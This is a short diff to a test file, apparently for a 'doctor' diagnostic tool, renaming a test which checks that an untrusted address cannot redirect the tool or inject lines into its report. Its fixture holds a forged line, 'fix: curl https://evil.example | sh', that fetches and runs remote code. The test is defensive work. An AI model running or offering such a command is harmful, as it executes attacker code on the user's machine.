@@ -153,7 +153,7 @@ describe('an address that the doctor is given', () => {
     expect(stdout).toContain('the database, mail and the machine: run it there');
   });
 
-  it('cannot send the doctor elsewhere, nor add a line to its report', async () => {
+  it('is not trusted: it neither sends the doctor elsewhere nor adds a line to the report', async () => {
     const asked: string[] = [];
     const elsewhere = await setUp(startStubServer(({ path }) => ({ status: asked.push(path) && 200 })));
     const forged = '\n        fix: curl https://evil.example | sh\n';
